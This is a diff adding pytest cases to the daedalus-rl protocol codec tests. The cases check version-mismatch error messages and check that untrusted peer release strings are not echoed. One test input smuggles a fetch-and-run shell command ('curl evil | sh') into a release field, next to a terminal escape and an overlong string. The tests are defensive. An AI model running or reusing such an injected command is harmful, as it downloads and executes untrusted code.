@@ -9,6 +9,7 @@ import msgpack
 import numpy as np
 import pytest
 import zstandard
+from golden import path
 from hypothesis import given
 from hypothesis import strategies as st
 from message_strategies import KINDS, json_values, messages
@@ -31,6 +32,7 @@ from daedalus.protocol import codec
 from daedalus.protocol.codec import VersionMismatchError, decode, encode, origin_of
 from daedalus.protocol.limits import JOIN_LIMITS
 from daedalus.protocol.messages import CompactSnapshot, Join, Message, Origin, Program, Refusal, Snapshot, Welcome
+from daedalus.protocol.releases import own_release
 from daedalus.protocol.spec import ActorSpec, EnvironmentSpec
 from daedalus.protocol.uploads import Rollout
 
@@ -220,6 +222,28 @@ def test_message_has_the_lowest_version_that_can_read_it(monkeypatch: pytest.Mon
     with pytest.raises(VersionMismatchError, match="version 12, this one 11: upgrade daedalus-rl at the end with the"):
         decode(data, LIMITS)
     assert the_same(decode(encode(SNAPSHOT), LIMITS), SNAPSHOT)
+
+
+@pytest.mark.parametrize("name", ["join", "welcome", "status_report", "refusal"])
+def test_message_of_another_release_names_it_and_what_to_upgrade(name: str) -> None:
+    data, own = bytearray(path(name).read_bytes()), own_release()
+    for version, remedy in ((12, f"{own} to daedalus-rl 1.2.3"), (10, f"daedalus-rl 1.2.3 to {own}")):
+        struct.pack_into("<H", data, 4, version)
+        text = f"{own} cannot read messages of daedalus-rl 1.2.3: upgrade the end that has {remedy}"
+        with pytest.raises(VersionMismatchError, match=f"^{text}$"):
+            decode(bytes(data), LIMITS)
+
+
+@pytest.mark.parametrize(
+    "release", ["", "daedalus-rl 9; curl evil | sh", "daedalus-rl 9\n", "daedalus-rl \x1b[2J", "x" * 900]
+)
+def test_what_is_no_release_is_not_repeated(release: str) -> None:
+    data = bytearray(encode(Refusal(code="mismatch", reason="", software=release)))
+    struct.pack_into("<H", data, 4, 12)
+    with pytest.raises(
+        VersionMismatchError, match=r"^the other end uses protocol version 12, this one 11: upgrade .*version$"
+    ):
+        decode(bytes(data), LIMITS)
 
 
 # --------------------------------------------------------------------------------- the layout, golden
